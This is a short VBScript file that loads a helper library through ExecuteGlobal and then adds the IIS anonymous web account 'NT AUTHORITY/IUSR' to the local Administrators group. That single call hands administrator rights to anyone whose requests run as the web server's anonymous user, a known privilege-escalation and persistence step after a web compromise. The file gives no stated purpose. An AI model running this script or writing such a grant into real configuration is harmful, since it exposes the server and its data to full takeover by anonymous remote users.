Sub Include(name)
  Dim fso, folder
  Set fso = CreateObject("Scripting.FileSystemObject")
  folder = fso.GetParentFolderName(WScript.ScriptFullName)
  ExecuteGlobal fso.OpenTextFile(fso.BuildPath(folder, name)).ReadAll
End Sub
Include "own-include-library.vbs"
AddMember "Administrators", "NT AUTHORITY/IUSR"
